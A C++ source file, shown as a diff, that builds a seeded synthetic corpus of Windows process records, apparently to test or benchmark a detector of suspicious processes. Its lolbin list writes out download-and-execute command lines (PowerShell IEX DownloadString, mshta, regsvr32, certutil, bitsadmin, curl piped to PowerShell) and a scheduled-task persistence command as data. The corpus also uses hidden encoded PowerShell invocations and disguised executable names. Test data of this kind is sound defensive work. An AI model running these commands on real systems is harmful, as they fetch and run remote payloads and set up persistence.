@@ -0,0 +1,167 @@
+// SPDX-License-Identifier: MIT
+#include "corpus.h"
+#include <random>
+
+// Only raw mt19937 output is used (no std:: distributions), so a seed yields the same
+// corpus with every standard library.
+namespace {
+    using Rng = std::mt19937;
+
+    template <size_t N>
+    const wchar_t* pick(Rng& rng, const wchar_t* const (&a)[N]) { return a[rng() % N]; }
+
+    const wchar_t* const kSystemExes[] = { L"svchost.exe", L"lsass.exe", L"services.exe", L"csrss.exe", L"winlogon.exe",
+        L"RuntimeBroker.exe", L"dllhost.exe", L"conhost.exe", L"taskhostw.exe", L"SearchIndexer.exe", L"spoolsv.exe" };
+    const wchar_t* const kSvcArgs[] = { L" -k netsvcs -p -s Schedule", L" -k LocalServiceNoNetwork -p", L" -k DcomLaunch -p",
+        L" -k RPCSS -p", L" -k UnistackSvcGroup", L"", L" /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}" };
+    const wchar_t* const kVendorApps[] = {
+        L"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        L"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+        L"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        L"C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+        L"C:\\Program Files\\Notepad++\\notepad++.exe",
+        L"C:\\Program Files\\7-Zip\\7zFM.exe" };
+    const wchar_t* const kVendorPubs[] = { L"Google LLC", L"Microsoft Corporation", L"Microsoft Corporation",
+        L"Mozilla Corporation", L"Notepad++", L"Igor Pavlov" };
+    const wchar_t* const kLolbins[] = {
+        L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
+        L"C:\\Windows\\System32\\mshta.exe\" http://203.0.113.5/payload.hta",
+        L"C:\\Windows\\System32\\regsvr32.exe\" /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll",
+        L"C:\\Windows\\System32\\rundll32.exe\" javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+        L"C:\\Windows\\System32\\certutil.exe\" -urlcache -split -f http://198.51.100.22/x.exe C:\\Users\\Public\\x.exe",
+        L"C:\\Windows\\System32\\bitsadmin.exe\" /transfer job /download /priority high http://198.51.100.3/a.exe C:\\Temp\\a.exe",
+        L"C:\\Windows\\System32\\wscript.exe\" //B //E:jscript C:\\Users\\Public\\run.js",
+        L"C:\\Windows\\System32\\schtasks.exe\" /create /sc minute /mo 5 /tn upd /tr C:\\ProgramData\\u.exe",
+        L"C:\\Windows\\System32\\cmd.exe\" /c curl -s http://203.0.113.40/s | powershell -" };
+    const wchar_t* const kUnicodeNames[] = { L"свчост.exe", L"отчёт_2024.exe", L"报告工具.exe", L"Résumé Viewer.exe",
+        L"Überwachung.exe", L"プロセス監視.exe", L"ملف.exe", L"Ωmega.exe", L"naïve-updater.exe", L"scvhоst.exe" };
+    const wchar_t* const kUnicodeUsers[] = { L"Jürgen", L"Zoë", L"Иван", L"山田", L"Ольга", L"José" };
+    const wchar_t* const kDroppedDirs[] = { L"C:\\Users\\bob\\AppData\\Local\\Temp\\", L"C:\\Users\\Public\\Downloads\\",
+        L"C:\\ProgramData\\", L"\\\\fileserver\\share\\tools\\", L"C:\\Users\\alice\\Downloads\\", L"C:\\Windows\\Tasks\\" };
+    const wchar_t* const kDroppedNames[] = { L"upd4te.exe", L"svch0st.exe", L"invoice.pdf.exe", L"setup.exe", L"lsass.exe",
+        L"explorer.exe", L"a.exe" };
+
+    void fill_env(bench::ProcRecord& r, Rng& rng) {
+        r.desk = (rng() % 4) ? L"Winsta0\\Default" : L"";
+        r.wtitle = (rng() % 3) ? r.img : L"";
+        r.shell = L"";
+        if (rng() % 8 == 0) r.rtd.assign(4 + rng() % 12, L'\x0001');
+    }
+    void sign(bench::ProcRecord& r, bool trusted, const wchar_t* pub, Rng& rng) {
+        r.sig.trusted = trusted;
+        r.sig.trustStatus = trusted ? L"ERROR_SUCCESS" : (rng() % 2 ? L"TRUST_E_NOSIGNATURE" : L"TRUST_E_BAD_DIGEST");
+        r.sig.publisher = trusted ? pub : L"";
+        static const wchar_t hex[] = L"0123456789ABCDEF";
+        if (trusted) { r.sig.thumbprint.clear(); for (int i = 0; i < 40; ++i) r.sig.thumbprint.push_back(hex[rng() % 16]); }
+    }
+    std::wstring basename_of(const std::wstring& p) {
+        size_t i = p.find_last_of(L"\\/");
+        return i == std::wstring::npos ? p : p.substr(i + 1);
+    }
+    std::wstring dir_of(const std::wstring& p) {
+        size_t i = p.find_last_of(L"\\/");
+        return i == std::wstring::npos ? std::wstring() : p.substr(0, i + 1);
+    }
+} // anon
+
+namespace bench {
+
+    const wchar_t* KindName(Kind k) {
+        switch (k) {
+        case Kind::Benign: return L"benign";
+        case Kind::Lolbin: return L"lolbin";
+        case Kind::Base64: return L"base64";
+        case Kind::Unicode: return L"unicode";
+        case Kind::Dropped: return L"dropped";
+        }
+        return L"?";
+    }
+
+    std::wstring RandomBase64(size_t bytes, uint32_t seed) {
+        static const wchar_t tbl[] = L"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        Rng rng(seed);
+        std::wstring o;
+        o.reserve((bytes + 2) / 3 * 4);
+        for (size_t i = 0; i < bytes; i += 3) {
+            const size_t n = bytes - i < 3 ? bytes - i : 3;
+            uint32_t v = 0;
+            for (size_t k = 0; k < 3; ++k) v = (v << 8) | (k < n ? (rng() & 0xFF) : 0);
+            o.push_back(tbl[(v >> 18) & 63]);
+            o.push_back(tbl[(v >> 12) & 63]);
+            o.push_back(n > 1 ? tbl[(v >> 6) & 63] : L'=');
+            o.push_back(n > 2 ? tbl[v & 63] : L'=');
+        }
+        return o;
+    }
+
+    std::vector<ProcRecord> MakeCorpus(size_t count, uint32_t seed) {
+        Rng rng(seed);
+        std::vector<ProcRecord> out(count);
+        uint32_t pid = 4;
+        for (auto& r : out) {
+            pid += 4 * (1 + rng() % 64);
+            r.pid = pid;
+            r.ppid = (rng() % 3) ? 4 * (1 + rng() % 400) : 0;
+            const uint32_t roll = rng() % 100;
+            if (roll < 55) {
+                r.kind = Kind::Benign;
+                if (rng() % 2) {
+                    r.name = pick(rng, kSystemExes);
+                    r.img = std::wstring(L"C:\\Windows\\") + ((rng() % 5) ? L"System32\\" : L"SysWOW64\\") + r.name;
+                    r.cmd = r.img + pick(rng, kSvcArgs);
+                    r.cwd = L"C:\\Windows\\system32\\";
+                    sign(r, true, L"Microsoft Windows", rng);
+                }
+                else {
+                    const size_t app = rng() % (sizeof(kVendorApps) / sizeof(kVendorApps[0]));
+                    r.img = kVendorApps[app];
+                    r.name = basename_of(r.img);
+                    r.cmd = L"\"" + r.img + L"\"";
+                    if (rng() % 2) {
+                        const uint32_t trial = rng(), channel = rng() % 9000;   // drawn up front: operand order in the + chain is unspecified
+                        r.cmd += L" --type=renderer --field-trial-handle=" + std::to_wstring(trial) + L" --lang=en-US --mojo-platform-channel-handle=" + std::to_wstring(channel);
+                    }
+                    r.cwd = dir_of(r.img);
+                    sign(r, rng() % 20 != 0, kVendorPubs[app], rng);
+                }
+            }
+            else if (roll < 70) {
+                r.kind = Kind::Lolbin;
+                r.cmd = std::wstring(L"\"") + pick(rng, kLolbins);
+                r.img = r.cmd.substr(1, r.cmd.find(L'"', 1) - 1);
+                r.name = basename_of(r.img);
+                r.cwd = (rng() % 2) ? L"C:\\Users\\bob\\AppData\\Local\\Temp\\" : L"C:\\Windows\\system32\\";
+                sign(r, true, L"Microsoft Windows", rng);
+            }
+            else if (roll < 80) {
+                r.kind = Kind::Base64;
+                r.img = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+                r.name = L"powershell.exe";
+                const size_t bytes = 1536 + rng() % 6144;
+                const uint32_t payloadSeed = rng();
+                r.cmd = L"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + RandomBase64(bytes, payloadSeed);
+                r.cwd = (rng() % 2) ? L"C:\\Users\\bob\\" : L"C:\\Windows\\system32\\";
+                sign(r, true, L"Microsoft Windows", rng);
+            }
+            else if (roll < 90) {
+                r.kind = Kind::Unicode;
+                r.name = pick(rng, kUnicodeNames);
+                const std::wstring dir = std::wstring(L"C:\\Users\\") + pick(rng, kUnicodeUsers) + L"\\AppData\\Roaming\\Программы\\";
+                r.img = dir + r.name;
+                r.cmd = L"\"" + r.img + L"\" --профиль=\"" + pick(rng, kUnicodeUsers) + L"\" «запуск»";
+                r.cwd = (rng() % 2) ? dir : L"C:\\Windows\\System32\\";
+                sign(r, rng() % 3 == 0, L"Österreichische Software GmbH", rng);
+            }
+            else {
+                r.kind = Kind::Dropped;
+                r.name = pick(rng, kDroppedNames);
+                r.img = std::wstring(pick(rng, kDroppedDirs)) + r.name;
+                r.cmd = L"\"" + r.img + L"\"" + ((rng() % 2) ? L" /silent /install" : L"");
+                r.cwd = (rng() % 3) ? dir_of(r.img) : L"C:\\Windows\\System32\\";
+                sign(r, false, L"", rng);
+            }
+            fill_env(r, rng);
+        }
+        return out;
+    }
+} // namespace bench